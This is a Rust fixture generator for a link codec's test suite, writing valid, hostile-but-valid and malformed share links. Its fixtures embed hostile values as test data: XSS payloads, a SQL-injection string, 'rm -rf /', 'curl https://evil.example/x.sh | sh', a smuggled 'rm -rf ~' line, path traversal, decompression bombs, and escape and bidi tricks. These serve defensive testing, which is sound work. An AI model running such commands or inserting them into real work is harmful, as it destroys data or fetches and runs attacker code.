//! Writes the `.link` fixtures under `tests/fixtures/` that do not exist yet:
//! `cargo run -p seedbed-share --example gen_fixtures`.
//!
//! It never overwrites a file. The committed `.link` files are the corpus; this program
//! only records how each was made. `compat/` links in particular are frozen: a link encoded
//! today must decode to the same document forever, so they are never regenerated (a new
//! encoder may compress differently, and that must not hide a decoding change).
//! The expected outputs beside them (`.expected`, `.json`) are written by the tests with
//! `UPDATE_EXPECT=1` (never over an existing compat `.json`).

#[path = "../tests/support/mod.rs"]
mod support;

use std::fs;
use std::path::Path;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use seedbed_share::{
    PANES, SeedLocale, SeederSettings, ShareDoc, SharedLesson, SharedMigration, SharedSeed, encode,
};

fn main() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let mut written = 0;
    for (dir, cases) in [
        ("compat", compat()),
        ("hostile_ok", hostile_ok()),
        ("bad", bad()),
    ] {
        let dir = root.join(dir);
        fs::create_dir_all(&dir).expect("create fixture folder");
        for (name, link) in cases {
            let path = dir.join(format!("{name}.link"));
            if !path.exists() {
                fs::write(&path, link).expect("write fixture");
                println!("wrote {}", path.display());
                written += 1;
            }
        }
    }
    println!("{written} new fixture(s)");
}

/// `v1.` + base64url(deflate-raw(bytes)): a link around any content, valid or not.
fn packed(bytes: &[u8]) -> String {
    format!(
        "v1.{}",
        URL_SAFE_NO_PAD.encode(miniz_oxide::deflate::compress_to_vec(bytes, 10))
    )
}

/// A link around `doc` without validating it (`encode` does not validate).
fn doc_link(doc: &ShareDoc) -> String {
    encode(doc)
}

fn migration(name: &str, sql: &str) -> SharedMigration {
    SharedMigration {
        name: name.into(),
        sql: sql.into(),
    }
}

fn with<F: FnOnce(&mut ShareDoc)>(change: F) -> String {
    let mut doc = support::typical_lesson();
    change(&mut doc);
    doc_link(&doc)
}

fn compat() -> Vec<(&'static str, String)> {
    let everything = ShareDoc {
        title: Some("Everything a v1 link can hold".into()),
        ..support::lesson_with_seed()
    };
    let unicode = ShareDoc {
        schema: "/// Ünïcödé: 日本語, العربية, emoji 🌱\nmodel Café {\n  id Int @id\n}\n".into(),
        title: Some("Señales 🌱 — «títulos»".into()),
        lesson: Some(SharedLesson {
            id: "básico-1".into(),
            step: 0,
        }),
        ..ShareDoc::default()
    };
    let typical = encode(&support::typical_lesson());
    // What chat apps and editors do to links: standard alphabet with padding, the `#`
    // dropped, a whole URL with a trailing newline.
    let standard = STANDARD.encode(
        URL_SAFE_NO_PAD
            .decode(typical.trim_start_matches("v1."))
            .expect("own link is base64url"),
    );
    vec![
        ("minimal", format!("#{}\n", encode(&ShareDoc::default()))),
        (
            "schema_only",
            format!("#{}\n", encode(&support::schema_only())),
        ),
        ("typical_lesson", format!("#{typical}\n")),
        ("everything", format!("#{}\n", encode(&everything))),
        (
            "shop_seeder_settings",
            format!("#{}\n", encode(&support::shop())),
        ),
        ("unicode", format!("#{}\n", encode(&unicode))),
        ("standard_base64_padded", format!("#v1.{standard}\n")),
        ("no_hash", format!("{}\n", encode(&support::schema_only()))),
        (
            "whole_url",
            format!("  https://seedbed.example/play?embed=1#{typical}  \n"),
        ),
    ]
}

fn hostile_ok() -> Vec<(&'static str, String)> {
    // HTML is valid content: the codec keeps it byte for byte, and the UI must escape it.
    let hostile = |payload: &str| ShareDoc {
        schema: format!(
            "/// {payload}\nmodel User {{\n  id Int @id\n  /// {payload}\n  name String @default(\"{}\")\n}}\n",
            payload.replace('"', "\\\"")
        ),
        migrations: vec![migration(
            "20250301093000_init",
            &format!(
                "-- {payload}\nCREATE TABLE \"User\" (\"id\" INTEGER NOT NULL PRIMARY KEY, \"name\" TEXT NOT NULL DEFAULT '{payload}');\n"
            ),
        )],
        seed: Some(SharedSeed {
            script: Some(format!(
                "// {payload}\nconsole.log('{payload}')\ndocument.body.innerHTML = '{payload}'\n"
            )),
            settings: Some(SeederSettings {
                rows_per_model: 10,
                seed: 1,
                locale: SeedLocale::En,
            }),
        }),
        commands: vec![
            format!("npx prisma migrate dev --name {payload}"),
            format!("prisma db execute --stdin {payload}"),
        ],
        panes: vec!["schema".into(), "terminal".into()],
        lesson: Some(SharedLesson {
            id: payload.into(),
            step: 1,
        }),
        title: Some(payload.into()),
    };
    let at_limits = ShareDoc {
        schema: String::new(),
        migrations: (0..seedbed_share::MAX_MIGRATIONS)
            .map(|i| migration(&format!("{:014}_m{i}", 20250101000000u64 + i as u64), ""))
            .collect(),
        seed: Some(SharedSeed {
            script: None,
            settings: Some(SeederSettings {
                rows_per_model: seedbed_share::MAX_ROWS_PER_MODEL,
                seed: u64::MAX,
                locale: SeedLocale::Es,
            }),
        }),
        commands: (0..seedbed_share::MAX_COMMANDS)
            .map(|i| {
                if i == 0 {
                    format!(
                        "npx prisma {}",
                        "x".repeat(seedbed_share::MAX_COMMAND_CHARS - 11)
                    )
                } else {
                    format!("prisma migrate status # {i}")
                }
            })
            .collect(),
        panes: PANES.iter().rev().map(|p| p.to_string()).collect(),
        lesson: Some(SharedLesson {
            id: "é".repeat(200),
            step: u32::MAX,
        }),
        title: Some("t".repeat(200)),
    };
    let quoting = ShareDoc {
        schema: "model A {\n  id String @id @default(\"\\\"'`</script><!--\")\n}\n\t\r\n".into(),
        title: Some("javascript:alert(1) \"quoted\" 'single' `tick` &amp; \\ </title>".into()),
        commands: vec!["npx prisma db execute --file \"x'; DROP TABLE users; --\"".into()],
        ..ShareDoc::default()
    };
    vec![
        (
            "script_tags",
            format!("#{}\n", doc_link(&hostile("<script>alert(1)</script>"))),
        ),
        (
            "img_onerror",
            format!("#{}\n", doc_link(&hostile("<img src=x onerror=alert(1)>"))),
        ),
        ("quoting", format!("#{}\n", doc_link(&quoting))),
        ("at_limits", format!("#{}\n", doc_link(&at_limits))),
    ]
}

fn bad() -> Vec<(&'static str, String)> {
    let good = encode(&support::typical_lesson());
    let body = good.trim_start_matches("v1.").to_string();
    let cut = |n: usize| good[..n].to_string();
    let insert = |at: usize, what: &str| format!("{}{what}{}", &good[..at], &good[at..]);
    let mid = good.len() / 2;
    let json = |text: &str| packed(text.as_bytes());

    // Deterministic junk bytes (xorshift), for "valid base64, not deflate".
    let mut state = 0x9e37_79b9_7f4a_7c15u64;
    let junk: Vec<u8> = (0..120)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state as u8
        })
        .collect();
    let mut with_trailing = miniz_oxide::deflate::compress_to_vec(br#"{"schema":""}"#, 10);
    with_trailing.extend_from_slice(b"extra");
    let zlib = miniz_oxide::deflate::compress_to_vec_zlib(br#"{"schema":""}"#, 10);
    let mut gzip = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255];
    gzip.extend(miniz_oxide::deflate::compress_to_vec(
        br#"{"schema":""}"#,
        10,
    ));
    gzip.extend([0; 8]);
    let deep = format!("{}{}", "[".repeat(300), "]".repeat(300));
    let many_then_deep = format!(
        r#"{{"schema":"","commands":[{}{deep}]}}"#,
        "\"npx prisma\",".repeat(60)
    );
    let big = |n: usize| "a".repeat(n);

    vec![
        // The shape of the text.
        ("empty", String::new()),
        ("only_hash", "#\n".into()),
        ("only_whitespace", "  \t \n".into()),
        ("hash_then_spaces", "#   \n".into()),
        ("prefix_alone", "#v1.\n".into()),
        ("v_alone", "#v\n".into()),
        ("v1_without_dot", "#v1\n".into()),
        ("no_dot", format!("#v1{body}\n")),
        ("version_v0", format!("#v0.{body}\n")),
        ("version_v2", format!("#v2.{body}\n")),
        (
            "version_v99",
            "#v99.whatever-a-future-format-holds\n".into(),
        ),
        ("version_uppercase", format!("#V1.{body}\n")),
        ("version_leading_zero", format!("#v01.{body}\n")),
        ("no_version", format!("#{body}\n")),
        ("double_hash", format!("##{good}\n")),
        (
            "other_site_fragment",
            "#code/JYWwDg9gTgLgBAbzgIQK4wDYFM4F84BmUEIcA5AHQAmwAzgNwCwAUKJLHAFYIb4xa16TZkA\n"
                .into(),
        ),
        (
            "plain_url",
            "https://example.com/docs#getting-started\n".into(),
        ),
        ("quoted_link", format!("\"#{good}\"\n")),
        // Cut off.
        ("truncated_prefix_plus_one", "#v1.Z\n".into()),
        ("truncated_quarter", format!("#{}\n", cut(good.len() / 4))),
        ("truncated_half", format!("#{}\n", cut(mid))),
        ("truncated_half_plus_one", format!("#{}\n", cut(mid + 1))),
        (
            "truncated_90_percent",
            format!("#{}\n", cut(good.len() * 9 / 10)),
        ),
        ("truncated_last_char", format!("#{}\n", cut(good.len() - 1))),
        ("truncated_last_two", format!("#{}\n", cut(good.len() - 2))),
        (
            "truncated_last_three",
            format!("#{}\n", cut(good.len() - 3)),
        ),
        ("truncated_ellipsis", format!("#{}…\n", cut(mid))),
        // Characters that are not base64.
        ("space_inside", format!("#{}\n", insert(mid, " "))),
        ("line_break_inside", format!("#{}\n", insert(mid, "\n"))),
        ("percent_escape", format!("#{}%3D\n", good)),
        ("dot_inside", format!("#{}\n", insert(mid, "."))),
        ("accented_letter", format!("#{}\n", insert(mid, "é"))),
        ("emoji", format!("#{}\n", insert(10, "🌱"))),
        ("nul_inside", format!("#{}\n", insert(mid, "\0"))),
        (
            "zero_width_space",
            format!("#{}\n", insert(mid, "\u{200B}")),
        ),
        ("padding_inside", format!("#{}\n", insert(mid, "=="))),
        ("too_much_padding", format!("#{good}===\n")),
        (
            "html_after_link",
            format!("#{good}<script>alert(1)</script>\n"),
        ),
        ("two_links_pasted", format!("#{good}#{good}\n")),
        ("two_links_no_hash", format!("#{good}{good}\n")),
        // Valid base64 of things that are not deflate-raw.
        (
            "base64_of_text",
            format!(
                "#v1.{}\n",
                URL_SAFE_NO_PAD.encode("hello, this is not compressed")
            ),
        ),
        (
            "base64_of_junk",
            format!("#v1.{}\n", URL_SAFE_NO_PAD.encode(&junk)),
        ),
        ("base64_all_zero_bytes", "#v1.AAAAAAAAAAAA\n".into()),
        ("base64_all_ones", "#v1.____________\n".into()),
        (
            "base64_of_json",
            format!("#v1.{}\n", URL_SAFE_NO_PAD.encode(r#"{"schema":""}"#)),
        ),
        (
            "zlib_not_raw",
            format!("#v1.{}\n", URL_SAFE_NO_PAD.encode(&zlib)),
        ),
        (
            "gzip_not_raw",
            format!("#v1.{}\n", URL_SAFE_NO_PAD.encode(&gzip)),
        ),
        (
            "data_after_stream",
            format!("#v1.{}\n", URL_SAFE_NO_PAD.encode(&with_trailing)),
        ),
        // Decompression bombs: 10 MB of zeros is about 10 KB of deflate.
        (
            "bomb_10mb_zeros",
            format!("#{}\n", packed(&vec![0u8; 10_000_000])),
        ),
        (
            "bomb_json_padded",
            format!(
                "#{}\n",
                json(&format!(r#"{{"schema":"{}"}}"#, " ".repeat(3_000_000)))
            ),
        ),
        // Unpacked, but not text / not JSON / not a document.
        (
            "not_utf8",
            format!("#{}\n", packed(&[0xff, 0xfe, 0x00, 0x7b, 0x80])),
        ),
        (
            "latin1_json",
            format!("#{}\n", packed(b"{\"schema\":\"caf\xe9\"}")),
        ),
        ("unpacks_to_nothing", format!("#{}\n", packed(b""))),
        (
            "not_json",
            format!("#{}\n", json("model User { id Int @id }")),
        ),
        (
            "json_with_bom",
            format!("#{}\n", json("\u{FEFF}{\"schema\":\"\"}")),
        ),
        (
            "json_trailing_text",
            format!("#{}\n", json(r#"{"schema":""} and more"#)),
        ),
        (
            "json_cut_off",
            format!("#{}\n", json(r#"{"schema":"model A {"#)),
        ),
        (
            "json_array",
            format!("#{}\n", json(r#"["model A { id Int @id }"]"#)),
        ),
        (
            "json_string",
            format!("#{}\n", json(r#""model A { id Int @id }""#)),
        ),
        ("json_null", format!("#{}\n", json("null"))),
        ("json_number", format!("#{}\n", json("42"))),
        ("json_deep_nesting", format!("#{}\n", json(&deep))),
        (
            "missing_schema",
            format!("#{}\n", json(r#"{"title":"no schema"}"#)),
        ),
        ("schema_null", format!("#{}\n", json(r#"{"schema":null}"#))),
        ("schema_number", format!("#{}\n", json(r#"{"schema":42}"#))),
        (
            "unknown_field",
            format!("#{}\n", json(r#"{"schema":"","theme":"dark"}"#)),
        ),
        (
            "unknown_field_html",
            format!(
                "#{}\n",
                json(r#"{"schema":"","<script>alert(1)</script>":1}"#)
            ),
        ),
        (
            "unknown_nested_field",
            format!(
                "#{}\n",
                json(r#"{"schema":"","migrations":[{"name":"a","sql":"","checksum":"x"}]}"#)
            ),
        ),
        (
            "duplicate_field",
            format!("#{}\n", json(r#"{"schema":"a","schema":"b"}"#)),
        ),
        (
            "migrations_object",
            format!("#{}\n", json(r#"{"schema":"","migrations":{}}"#)),
        ),
        (
            "migrations_null",
            format!("#{}\n", json(r#"{"schema":"","migrations":null}"#)),
        ),
        (
            "migration_as_array",
            format!(
                "#{}\n",
                json(r#"{"schema":"","migrations":[["init","CREATE TABLE a (b);"]]}"#)
            ),
        ),
        (
            "migration_without_sql",
            format!(
                "#{}\n",
                json(r#"{"schema":"","migrations":[{"name":"init"}]}"#)
            ),
        ),
        (
            "lesson_as_array",
            format!("#{}\n", json(r#"{"schema":"","lesson":["intro",1]}"#)),
        ),
        (
            "lesson_step_negative",
            format!(
                "#{}\n",
                json(r#"{"schema":"","lesson":{"id":"intro","step":-1}}"#)
            ),
        ),
        (
            "lesson_step_fraction",
            format!(
                "#{}\n",
                json(r#"{"schema":"","lesson":{"id":"intro","step":1.5}}"#)
            ),
        ),
        (
            "rows_as_string",
            format!(
                "#{}\n",
                json(
                    r#"{"schema":"","seed":{"settings":{"rows_per_model":"10","seed":1,"locale":"en"}}}"#
                )
            ),
        ),
        (
            "rows_over_u32",
            format!(
                "#{}\n",
                json(
                    r#"{"schema":"","seed":{"settings":{"rows_per_model":5000000000,"seed":1,"locale":"en"}}}"#
                )
            ),
        ),
        (
            "seed_negative",
            format!(
                "#{}\n",
                json(
                    r#"{"schema":"","seed":{"settings":{"rows_per_model":10,"seed":-1,"locale":"en"}}}"#
                )
            ),
        ),
        (
            "locale_unknown",
            format!(
                "#{}\n",
                json(
                    r#"{"schema":"","seed":{"settings":{"rows_per_model":10,"seed":1,"locale":"fr"}}}"#
                )
            ),
        ),
        (
            "commands_over_limit_then_deep",
            format!("#{}\n", json(&many_then_deep)),
        ),
        // Documents that break a rule.
        (
            "schema_too_big",
            format!("#{}\n", with(|d| d.schema = big(512 * 1024 + 1))),
        ),
        (
            "sql_too_big",
            format!("#{}\n", with(|d| d.migrations[1].sql = big(512 * 1024 + 1))),
        ),
        (
            "seed_script_too_big",
            format!(
                "#{}\n",
                with(|d| d.seed = Some(SharedSeed {
                    script: Some(big(256 * 1024 + 1)),
                    settings: None
                }))
            ),
        ),
        (
            "too_many_migrations",
            format!(
                "#{}\n",
                with(|d| d.migrations = (0..201).map(|i| migration(&format!("m{i}"), "")).collect())
            ),
        ),
        (
            "too_many_commands",
            format!(
                "#{}\n",
                with(|d| d.commands = vec!["npx prisma migrate status".into(); 51])
            ),
        ),
        (
            "command_too_long",
            format!(
                "#{}\n",
                with(|d| d.commands[0] = format!("npx prisma {}", big(1990)))
            ),
        ),
        (
            "command_not_prisma",
            format!("#{}\n", with(|d| d.commands[1] = "rm -rf /".into())),
        ),
        (
            "command_curl_pipe_sh",
            format!(
                "#{}\n",
                with(|d| d.commands[0] = "curl https://evil.example/x.sh | sh".into())
            ),
        ),
        (
            "command_npm",
            format!(
                "#{}\n",
                with(|d| d.commands[0] = "npm install left-pad".into())
            ),
        ),
        (
            "command_leading_space",
            format!(
                "#{}\n",
                with(|d| d.commands[0] = " npx prisma db push".into())
            ),
        ),
        (
            "command_prismax",
            format!(
                "#{}\n",
                with(|d| d.commands[0] = "npx prismax db push".into())
            ),
        ),
        (
            "command_empty",
            format!("#{}\n", with(|d| d.commands[2] = String::new())),
        ),
        (
            "command_second_line",
            format!(
                "#{}\n",
                with(|d| d.commands[0] = "npx prisma db push\nrm -rf ~".into())
            ),
        ),
        (
            "command_html",
            format!(
                "#{}\n",
                with(|d| d.commands[0] = "<script>alert(1)</script>".into())
            ),
        ),
        (
            "migration_name_dotdot",
            format!(
                "#{}\n",
                with(|d| d.migrations[0].name = "../../etc/passwd".into())
            ),
        ),
        (
            "migration_name_slash",
            format!(
                "#{}\n",
                with(|d| d.migrations[0].name = "20250301093000_init/x".into())
            ),
        ),
        (
            "migration_name_backslash",
            format!(
                "#{}\n",
                with(|d| d.migrations[0].name = "..\\..\\Windows".into())
            ),
        ),
        (
            "migration_name_nul",
            format!(
                "#{}\n",
                with(|d| d.migrations[0].name = "init\0.sql".into())
            ),
        ),
        (
            "migration_name_empty",
            format!("#{}\n", with(|d| d.migrations[0].name = String::new())),
        ),
        (
            "migration_name_space",
            format!(
                "#{}\n",
                with(|d| d.migrations[0].name = "my migration".into())
            ),
        ),
        (
            "migration_name_dash_first",
            format!("#{}\n", with(|d| d.migrations[0].name = "-rf".into())),
        ),
        (
            "migration_name_windows_device",
            format!("#{}\n", with(|d| d.migrations[0].name = "CON".into())),
        ),
        (
            "migration_name_html",
            format!(
                "#{}\n",
                with(|d| d.migrations[0].name = "<script>alert(1)</script>".into())
            ),
        ),
        (
            "migration_name_too_long",
            format!("#{}\n", with(|d| d.migrations[0].name = big(256))),
        ),
        (
            "migration_duplicate",
            format!(
                "#{}\n",
                with(|d| d.migrations[1].name = d.migrations[0].name.clone())
            ),
        ),
        (
            "migration_duplicate_case",
            format!(
                "#{}\n",
                with(|d| d.migrations = vec![migration("init", ""), migration("INIT", "")])
            ),
        ),
        (
            "pane_unknown",
            format!("#{}\n", with(|d| d.panes.push("settings".into()))),
        ),
        (
            "pane_html",
            format!(
                "#{}\n",
                with(|d| d.panes[0] = "<img src=x onerror=alert(1)>".into())
            ),
        ),
        (
            "pane_duplicate",
            format!("#{}\n", with(|d| d.panes.push("schema".into()))),
        ),
        (
            "pane_capitalised",
            format!("#{}\n", with(|d| d.panes[0] = "Schema".into())),
        ),
        (
            "nul_in_schema",
            format!("#{}\n", with(|d| d.schema.insert(20, '\0'))),
        ),
        (
            "nul_in_sql",
            format!("#{}\n", with(|d| d.migrations[0].sql.push('\0'))),
        ),
        (
            "nul_in_seed_script",
            format!(
                "#{}\n",
                with(|d| d.seed = Some(SharedSeed {
                    script: Some("console.log(1)\0".into()),
                    settings: None
                }))
            ),
        ),
        (
            "nul_in_command",
            format!("#{}\n", with(|d| d.commands[0].push('\0'))),
        ),
        (
            "nul_in_title",
            format!("#{}\n", with(|d| d.title = Some("a\0b".into()))),
        ),
        (
            "nul_in_lesson_id",
            format!(
                "#{}\n",
                with(|d| d.lesson = Some(SharedLesson {
                    id: "\0".into(),
                    step: 0
                }))
            ),
        ),
        (
            "escape_sequence_in_schema",
            format!(
                "#{}\n",
                with(|d| d.schema.push_str("// \u{1b}[2J\u{1b}[31mgotcha\n"))
            ),
        ),
        (
            "escape_sequence_in_command",
            format!(
                "#{}\n",
                with(|d| d.commands[0] = "npx prisma \u{1b}]0;title\u{7}".into())
            ),
        ),
        (
            "delete_char_in_title",
            format!("#{}\n", with(|d| d.title = Some("a\u{7f}".into()))),
        ),
        (
            "c1_control_in_sql",
            format!("#{}\n", with(|d| d.migrations[0].sql.push('\u{85}'))),
        ),
        (
            "bidi_override_in_schema",
            format!(
                "#{}\n",
                with(|d| d.schema.push_str("/// admin \u{202E}} ytreporp{\n"))
            ),
        ),
        (
            "bidi_isolate_in_seed_script",
            format!(
                "#{}\n",
                with(|d| d.seed = Some(SharedSeed {
                    script: Some("if (role !== 'user\u{2067}// admin\u{2069}') {}".into()),
                    settings: None
                }))
            ),
        ),
        (
            "line_break_in_title",
            format!("#{}\n", with(|d| d.title = Some("one\ntwo".into()))),
        ),
        (
            "line_break_in_lesson_id",
            format!(
                "#{}\n",
                with(|d| d.lesson = Some(SharedLesson {
                    id: "a\rb".into(),
                    step: 0
                }))
            ),
        ),
        (
            "rows_per_model_too_big",
            format!(
                "#{}\n",
                with(|d| d.seed = Some(SharedSeed {
                    script: None,
                    settings: Some(SeederSettings {
                        rows_per_model: 100_001,
                        seed: 1,
                        locale: SeedLocale::En
                    })
                }))
            ),
        ),
        (
            "seed_empty",
            format!("#{}\n", with(|d| d.seed = Some(SharedSeed::default()))),
        ),
        (
            "lesson_id_empty",
            format!(
                "#{}\n",
                with(|d| d.lesson = Some(SharedLesson {
                    id: String::new(),
                    step: 1
                }))
            ),
        ),
        (
            "lesson_id_too_long",
            format!(
                "#{}\n",
                with(|d| d.lesson = Some(SharedLesson {
                    id: big(201),
                    step: 1
                }))
            ),
        ),
        (
            "title_too_long",
            format!("#{}\n", with(|d| d.title = Some("é".repeat(201)))),
        ),
    ]
}
